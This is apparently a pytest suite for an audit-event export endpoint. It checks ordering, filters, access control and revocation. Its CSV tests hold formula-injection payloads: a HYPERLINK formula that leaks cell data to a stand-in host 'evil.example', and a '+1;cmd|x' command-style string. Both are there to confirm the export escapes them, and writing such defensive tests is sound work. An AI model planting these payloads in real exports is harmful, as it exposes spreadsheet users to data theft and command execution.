"""The trail as a file: complete, filtered, harmless in a spreadsheet, and only for those who may read it."""

import csv
import io
import json
from typing import Any

import httpx
import pytest

from app.audit.trail import Origin
from app.core.actors import Actor, Identity
from app.resources.audit_events import export
from app.resources.audit_events.schemas import AuditEventListQuery, ExportFormat
from tests.conftest import Caller, Service
from tests.support.answers import events_of, pointers_of, read_problem

pytestmark = pytest.mark.anyio


async def exported(caller: Caller, **query: Any) -> httpx.Response:
    return await caller.get("/audit-events/export", params=query)


def lines_of(response: httpx.Response) -> list[Any]:
    return [json.loads(line) for line in response.text.splitlines()]


async def test_an_export_has_every_event_of_the_list_in_its_order(alice: Caller, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE", 7)
    organization = await alice.new_organization()
    for number in range(20):
        await alice.new_project(organization["id"], name=f"Projekt „{number}“")
    listed = await events_of(alice, organization_id=organization["id"])
    answer = await exported(alice, organization_id=organization["id"])
    assert answer.headers["content-type"] == "application/x-ndjson"
    assert answer.headers["content-disposition"] == 'attachment; filename="audit-events.ndjson"'
    found = lines_of(answer)
    assert [event["id"] for event in found[: len(listed)]] == [event["id"] for event in listed]
    assert [event["action"] for event in found[len(listed) :]] == ["AUDIT_EXPORTED"]
    for told, event in zip(found, listed, strict=False):
        assert (told["occurred_at"], told["details"], told["action"]) == (event["occurred_at"], event["details"], event["action"])
        assert {"type": told["actor_type"], "id": told["actor_id"]} == event["actor"]


async def test_the_filters_of_the_list_hold(alice: Caller) -> None:
    organization = await alice.new_organization()
    first = await alice.new_project(organization["id"])
    await alice.new_project(organization["id"])
    only = lines_of(await exported(alice, organization_id=organization["id"], action="PROJECT_CREATED", resource_id=first["id"]))
    assert [(event["action"], event["resource_id"]) for event in only] == [("PROJECT_CREATED", first["id"])]
    newest = lines_of(await exported(alice, organization_id=organization["id"], action="PROJECT_CREATED", direction="desc"))
    assert newest[-1] == only[0]
    read_problem(await alice.get("/audit-events/export", 422), 422)
    assert pointers_of(await alice.get("/audit-events/export", 422, params={"organization_id": organization["id"], "format": "xml"})) == [
        "query.format"
    ]
    for name in ("page", "size", "limit", "cursor", "actoin"):
        refused = await alice.get("/audit-events/export", 422, params={"organization_id": organization["id"], name: "1"})
        assert pointers_of(refused) == [f"query.{name}"]


async def test_a_table_opens_in_a_spreadsheet_and_starts_no_formula(alice: Caller) -> None:
    organization = await alice.new_organization()
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    await alice.post(
        "/projects", {"organization_id": organization["id"], "name": evil}, headers={"User-Agent": "+1;cmd|x", "X-Request-ID": "@x"}
    )
    answer = await exported(alice, organization_id=organization["id"], format="csv", action="PROJECT_CREATED")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    header, row = csv.reader(io.StringIO(answer.text))
    assert tuple(header) == export.COLUMNS
    cells = dict(zip(header, row, strict=True))
    assert cells["user_agent"] == "'+1;cmd|x"
    assert json.loads(cells["details"])["name"] == evil
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
BREAKS = (";", ",", "\t", '"', "; ", ';"', "\r\n")


def cells_as_read_with(separator: str, answer: httpx.Response) -> list[str]:
    """The cells that a spreadsheet makes of a table when its list separator is another."""
    return [cell for row in csv.reader(io.StringIO(answer.text, newline=""), delimiter=separator) for cell in row]


async def test_whatever_splits_the_cells_none_of_them_starts_a_formula(alice: Caller) -> None:
    organization = await alice.new_organization()
    place = {"organization_id": organization["id"], "action": "shop.sold"}
    agents = [f"x{between}{sign}HYPERLINK(A1);y" for between in BREAKS[:-1] for sign in "=+-@"]
    agents += [f"{sign}1" for sign in SIGNS] + [f"x;{sign}1" for sign in SIGNS]
    for agent in agents:
        told = {"text": f"{agent}\n{agent}", agent: [agent, -1, {"n": [0, -5]}]}
        await alice.post("/audit-events", {**place, "context": told}, headers={"User-Agent": agent.encode()})
    answer = await exported(alice, organization_id=organization["id"], format="csv", action="shop.sold")
    for separator in ",;\t":
        cells = cells_as_read_with(separator, answer)
        assert len(cells) >= len(agents)
        assert [cell for cell in cells if cell.strip(' "').startswith(tuple(SIGNS))] == [], separator
    _, *rows = csv.reader(io.StringIO(answer.text, newline=""))
    details = [json.loads(row[export.COLUMNS.index("details")]) for row in rows]
    assert details == [event["details"] for event in await events_of(alice, action="shop.sold")]


@pytest.mark.parametrize("text", [f"a{between}{sign}b" for between in BREAKS for sign in SIGNS])
def test_a_sign_after_whatever_may_split_cells_is_made_text(text: str) -> None:
    assert export._cell(text) == f"{text[:-2]}'{text[-2:]}"
    written = export._cell({text: [text, -1]})
    assert json.loads(written) == {text: [text, -1]}
    assert text[-2] not in written.replace(",-1]", "")


@pytest.mark.parametrize(
    "text",
    [
        *(
            "2026-11-20T18:11:56.000000Z",
            "01a2227a-9bbf-730d-9b2d-7b3f7bb64ff4",
            "user:al-ice+tag@example.org",
            "text/plain; charset=utf-8",
        ),
        *("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0", "python-httpx/0.28.1", "a - b = c"),
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert export._cell(text) == text
    assert export._cell({"a": text, "n": [-1, -2.5]}) == f'{{"a":"{text}","n":[-1,-2.5]}}'


async def test_only_who_manages_members_exports_and_it_is_recorded(service: Service, alice: Caller, bob: Caller, mallory: Caller) -> None:
    organization = await alice.new_organization()
    project, other = await alice.new_project(organization["id"]), await alice.new_project(organization["id"])
    await alice.grant("PROJECT", project["id"], "user:bob", "PROJECT_OWNER")
    mine = lines_of(await exported(bob, project_id=project["id"]))
    assert {event["project_id"] for event in mine} == {project["id"]}
    same = {"headers": {"X-Request-ID": "same"}}
    hidden = await mallory.get("/audit-events/export", 404, params={"project_id": project["id"]}, **same)
    absent = await mallory.get("/audit-events/export", 404, params={"project_id": organization["id"]}, **same)
    assert hidden.content == absent.content
    await bob.get("/audit-events/export", 404, params={"project_id": other["id"]})
    await service.as_(None).get("/audit-events/export", 401, params={"project_id": project["id"]})
    (event,) = await events_of(alice, action="AUDIT_EXPORTED")
    assert (event["actor"]["id"], event["resource"]["id"]) == ("bob", project["id"])
    assert event["details"]["format"] == "ndjson"


async def test_an_export_ends_when_the_right_is_taken_away(service: Service, alice: Caller, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE", 1)
    organization = await alice.new_organization()
    await alice.grant("ORGANIZATION", organization["id"], "user:bob", "ORG_ADMIN")
    for _ in range(5):
        await alice.new_project(organization["id"])
    bob = service.as_("user:bob")
    seen = 0
    query = {"organization_id": organization["id"]}
    async with bob.client.stream("GET", "/api/audit-events/export", params=query, headers=bob.headers) as answer:
        async for _ in answer.aiter_lines():
            seen += 1
    whole = seen
    original = export._as_lines

    def revoking(rows: Any) -> bytes:
        written.append(1)
        return original(rows)

    written: list[int] = []
    monkeypatch.setattr(export, "_as_lines", revoking)
    chunks = export.export(service.runtime.context, *_identity_of(bob), AuditEventListQuery(**query), ExportFormat.NDJSON)
    await anext(chunks)
    await alice.delete("/memberships", params=_grant(organization["id"]))
    assert [chunk async for chunk in chunks] == []
    assert (whole > 5, len(written)) == (True, 1)


def _identity_of(caller: Caller) -> tuple[Identity, Origin]:
    return Identity(Actor.from_subject(caller.headers["X-SaaSBase-Actor"]), "header"), Origin()


def _grant(organization_id: str) -> dict[str, str]:
    where = {"resource_type": "ORGANIZATION", "resource_id": organization_id}
    return {**where, "actor_type": "USER", "actor_id": "bob", "role": "ORG_ADMIN"}
